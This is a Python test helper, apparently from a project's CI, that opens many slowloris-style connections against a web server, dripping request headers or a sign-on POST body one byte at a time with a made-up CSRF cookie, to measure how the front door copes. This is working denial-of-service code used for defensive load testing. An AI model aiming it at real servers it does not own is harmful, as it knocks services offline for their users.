"""Slow clients against a web server, for .ci/front_door.py: CONNECTIONS connections held for
SECONDS, half sending a request's headers a byte every DRIP seconds (slowloris), half sending a
sign-on POST's body that way (with a made-up 32-character csrftoken cookie, which is all a
slow body needs to reach the view). A connection the server closes is opened again, so the
count stays up. Standard library only: it runs in the app image, on the front door's network,
so that the server sees it from an address of its own, apart from the visitor's.

Prints one JSON line: connections opened, the most held at once, how the server ended them.
Usage: slow_clients.py HOST PORT tls|plain SECONDS CONNECTIONS PATH"""

import asyncio
import json
import ssl
import sys
import time

DRIP = 3  # seconds between two bytes
HOST_HEADER = "letter.test"
STATS = {"opened": 0, "held_peak": 0, "closed_by_server": 0, "answered": {}, "failed_to_open": 0}
HELD = 0


def request_head(kind, path):
    if kind == "headers":
        return (
            f"GET {path} HTTP/1.1\r\nHost: {HOST_HEADER}\r\n".encode(),
            b"X-Padding: " + b"a" * 10000,
        )
    body = b"csrfmiddlewaretoken=" + b"a" * 5000
    head = (
        f"POST {path}sign/ HTTP/1.1\r\nHost: {HOST_HEADER}\r\nContent-Type: "
        f"application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
        f"Cookie: csrftoken={'a' * 32}\r\nReferer: https://{HOST_HEADER}{path}\r\n\r\n"
    ).encode()
    return head, body


async def one(host, port, context, kind, path, deadline):
    global HELD
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(
                    host, port, ssl=context, server_hostname=context and HOST_HEADER
                ),
                10,
            )
        except (TimeoutError, OSError):
            STATS["failed_to_open"] += 1
            await asyncio.sleep(1)
            continue
        STATS["opened"] += 1
        HELD += 1
        STATS["held_peak"] = max(STATS["held_peak"], HELD)
        head, drip = request_head(kind, path)
        try:
            writer.write(head)
            for byte in drip:
                if time.monotonic() >= deadline or reader.at_eof():
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    answer = await asyncio.wait_for(reader.read(64), DRIP)
                except TimeoutError:
                    continue
                status = answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "closed"
                STATS["answered"][status] = STATS["answered"].get(status, 0) + 1
                break
            else:
                continue
            if time.monotonic() < deadline:
                STATS["closed_by_server"] += 1
        except (OSError, ssl.SSLError):
            STATS["closed_by_server"] += 1
        finally:
            HELD -= 1
            writer.close()
        await asyncio.sleep(DRIP)  # then as a slowloris does: open another


async def main(host, port, mode, seconds, connections, path):
    context = None
    if mode == "tls":
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    deadline = time.monotonic() + seconds
    kinds = ["headers", "body"] * (connections // 2)
    tasks = []
    for index, kind in enumerate(kinds):
        tasks.append(asyncio.create_task(one(host, port, context, kind, path, deadline)))
        if index % 50 == 49:
            await asyncio.sleep(0.2)  # a ramp rather than a burst of handshakes
    await asyncio.gather(*tasks)
    print(json.dumps(STATS), flush=True)


if __name__ == "__main__":
    host, port, mode, seconds, connections, path = sys.argv[1:]
    asyncio.run(main(host, int(port), mode, float(seconds), int(connections), path))
